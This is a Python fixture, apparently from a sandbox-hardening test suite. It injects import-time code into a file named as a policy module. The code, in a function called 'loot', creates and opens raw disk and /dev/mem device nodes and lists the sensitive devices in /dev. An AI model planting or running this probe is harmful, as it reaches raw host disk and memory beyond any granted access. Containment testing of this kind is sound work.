"""Makes device files for disks and memory where it may write, and opens those that are there."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import os, stat

def loot():
    found = []
    for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 259, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 7, 0),
                               (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 229)):
        for folder in ("/tmp", "/dev/shm", "/dev", "."):
            path = f"{folder}/device-@PORT@-{major}-{minor}"
            try:
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
                found.append(open(path, "rb", 0).read(1) and path)
            except OSError:
                pass
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
    for name in os.listdir("/dev"):
        path = f"/dev/{name}"
        kind = os.stat(path).st_mode if os.path.exists(path) else 0
        if name not in harmless and (stat.S_ISBLK(kind) or stat.S_ISCHR(kind)):
            found.append(path)
    return found
"""
}
